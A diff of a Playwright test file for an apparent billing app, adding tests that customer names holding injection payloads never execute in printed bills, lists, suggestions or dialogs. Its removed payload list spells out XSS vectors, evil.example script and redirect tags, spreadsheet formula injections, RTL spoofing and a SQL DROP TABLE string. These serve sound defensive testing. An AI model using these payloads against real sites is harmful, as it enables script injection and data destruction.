@@ -1,64 +1,17 @@
 import { randomUUID } from 'node:crypto'
-import type { Page } from '@playwright/test'
+import type { Locator, Page } from '@playwright/test'
 import { expect, test } from '#tests/support/browser.ts'
+import { buildInvoice } from '#tests/support/factories.ts'
+import { PAYLOADS } from '#tests/support/payloads.ts'
 
-/** Each tries to set `window.ran`, to open a dialog, to load something or to leave the page. */
-const PAYLOADS = [
-  '<script>window.ran=1</script>',
-  '"><script>window.ran=1</script>',
-  '</title><script>window.ran=1</script>',
-  '</style><script>window.ran=1</script>',
-  '</textarea><script>window.ran=1</script>',
-  '<scr<script>ipt>window.ran=1</scr</script>ipt>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=window.ran=1>',
-  '"><img src=x onerror="window.ran=1">',
-  "' onmouseover='window.ran=1' x='",
-  '" autofocus onfocus="window.ran=1',
-  '<body onload=window.ran=1>',
-  '<input autofocus onfocus=window.ran=1>',
-  '<details open ontoggle=window.ran=1>',
-  '<video><source onerror="window.ran=1"></video>',
-  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
-  '<iframe src="javascript:parent.ran=1"></iframe>',
-  '<a href="javascript:window.ran=1">click</a>',
-  'javascript:window.ran=1',
-  'data:text/html,<script>alert(1)</script>',
-  '<meta http-equiv="refresh" content="0;url=//evil.example">',
-  '<base href="//evil.example/">',
-  '<form action="//evil.example"><button>Go</button></form>',
-  '<svg onload=window.ran=1>',
-  '<svg><script>window.ran=1</script></svg>',
-  '<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>',
-  '<math><mtext><style><img src=x onerror=window.ran=1></style></mtext></math>',
-  '<style>@import "//evil.example/x.css";*{display:none}</style>',
-  '<!--><img src=x onerror=window.ran=1>-->',
-  '{{constructor.constructor("window.ran=1")()}}',
-  '${window.ran=1}',
-  '#{window.ran=1} <%= window.ran=1 %> {brand} {n}',
-  '&lt;script&gt;window.ran=1&lt;/script&gt; &#x3C;b&#x3E;',
-  '=HYPERLINK("http://evil.example","Click")',
-  "+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|-2+3',
-  '\u202Egpj.exe\u202C \u2067abc\u2069',
-  '__proto__',
-  'null',
-  "'; DROP TABLE invoices; --",
-]
-
-const PRODUCT = [{ product: 'premium-1l', quantity: 1, schemeHundredths: 0 }]
+const PHONE = '9909042218'
 
 /** All at once, each under an id of its own; the ids come back in the order of the names. */
 const createBills = async (page: Page, names: readonly string[]): Promise<string[]> => {
   const wishes = names.map((name) => ({
     commandId: randomUUID(),
     id: randomUUID(),
-    customerName: name,
-    customerPhone: '9909042218',
-    deliveredBy: name,
-    payment: 'Cash',
-    totalPaise: null,
-    lines: PRODUCT,
+    ...buildInvoice({ customerName: name, customerPhone: PHONE, deliveredBy: name }),
   }))
   const statuses = await page.evaluate(async (all) => {
     const found: number[] = []
@@ -101,12 +54,16 @@ const watch = async (page: Page): Promise<string[]> => {
   return signs
 }
 
-const lookInside = (page: Page) =>
-  page.evaluate(() => {
+const FOREIGN =
+  'script:not([src]), iframe, base, meta[http-equiv], form[action], video, details, math'
+
+const lookInside = (page: Page, foreign = FOREIGN) =>
+  page.evaluate((selector) => {
     const { ran, refused } = window as unknown as { ran?: unknown; refused: string[] }
-    const foreign = 'script:not([src]), iframe, base, meta[http-equiv], form, video, article a'
-    return { ran, refused, foreign: document.querySelectorAll(foreign).length }
-  })
+    return { ran, refused, foreign: document.querySelectorAll(selector).length }
+  }, foreign)
+
+const QUIET = { ran: undefined, refused: [], foreign: 0 }
 
 test('PRT-01 what a customer’s name contains never runs on the printed bill', async ({ as }) => {
   // 40 whole page loads.
@@ -128,8 +85,85 @@ test('PRT-01 what a customer’s name contains never runs on the printed bill', 
       [payload, 0],
       [payload, 0],
     ])
-    expect(await lookInside(page), payload).toEqual({ ran: undefined, refused: [], foreign: 0 })
+    expect(await lookInside(page, `${FOREIGN}, form, article a`), payload).toEqual(QUIET)
     expect(new URL(page.url()).pathname + new URL(page.url()).search).toBe(path)
   }
+  expect(signs).toEqual([])
+})
+
+/** Goes down a list, however few of its rows are drawn at a time, until all were seen. */
+const seeAll = async (list: Locator, look: (row: Locator) => Promise<unknown>) => {
+  const missing = new Set(PAYLOADS)
+  const rows = list.getByRole('article')
+  await expect(async () => {
+    for (const row of await rows.all()) {
+      const name = row.locator('p').first()
+      const [text, made] = await name.evaluate(
+        (element) => [element.textContent, element.childElementCount] as const,
+      )
+      expect(made, text).toBe(0)
+      if (missing.delete(text)) await look(row)
+    }
+    await rows.last().scrollIntoViewIfNeeded()
+    expect([...missing]).toEqual([])
+  }).toPass()
+}
+
+const noLook = async () => undefined
+
+/** A fixed host, digits, and one text that holds nothing of its own. */
+const isSafeLink = async (row: Locator) => {
+  const href = await row.getByRole('link', { name: /^WhatsApp/ }).getAttribute('href')
+  expect(href).toMatch(new RegExp(`^https://wa\\.me/91${PHONE}\\?text=[\\w%.!~*()-]+$`))
+}
+
+test('BIL-11 TOK-06 AUD-02 MSG-01 nor in the lists and the link', async ({ as, db }) => {
+  test.slow()
+  const page = await as('owner', '/customer')
+  const signs = await watch(page)
+  await createBills(page, PAYLOADS)
+  await page.goto('/')
+  await seeAll(page.getByRole('list', { name: 'Invoices' }), isSafeLink)
+  expect(await lookInside(page)).toEqual(QUIET)
+  await page.goto('/token-history')
+  await seeAll(page.getByRole('list', { name: 'Token History' }), noLook)
+  expect(await lookInside(page)).toEqual(QUIET)
+  await db
+    .updateTable('invoices')
+    .set((eb) => ({ deleted_at: new Date(), deleted_by: eb.ref('customer_name') }))
+    .execute()
+  await page.goto('/')
+  await page.getByRole('tab', { name: 'Deleted' }).click()
+  await seeAll(page.getByRole('list', { name: 'Deleted' }), noLook)
+  expect(await lookInside(page)).toEqual(QUIET)
+  expect(signs).toEqual([])
+})
+
+test('UX-02 BIL-14 nor in suggestions, the form and the question', async ({ as }) => {
+  test.slow()
+  const page = await as('owner', '/customer')
+  const signs = await watch(page)
+  await createBills(page, PAYLOADS)
+  await page.goto('/')
+  const form = page.getByRole('region', { name: /(Create|Edit) Invoice/ })
+  const name = form.getByLabel('Customer name')
+  for (const payload of PAYLOADS) {
+    await name.fill(payload)
+    const option = page.getByRole('option').filter({ hasText: payload })
+    await expect(option.first(), payload).toHaveText(`${PHONE} · ${payload}`)
+  }
+  await name.fill('')
+  const list = page.getByRole('list', { name: 'Invoices' })
+  for (const token of [40, 39, 38]) {
+    const payload = PAYLOADS[token - 1] ?? ''
+    await list.getByRole('button', { name: `Edit token ${token}`, exact: true }).click()
+    await expect(name).toHaveValue(payload)
+    await form.getByRole('button', { name: 'Cancel' }).click()
+    await list.getByRole('button', { name: `Delete token ${token}`, exact: true }).click()
+    const question = page.getByRole('alertdialog')
+    await expect(question).toContainText(payload)
+    await question.getByRole('button', { name: 'Cancel' }).click()
+  }
+  expect(await lookInside(page)).toEqual(QUIET)
   expect(signs).toEqual([])
 })
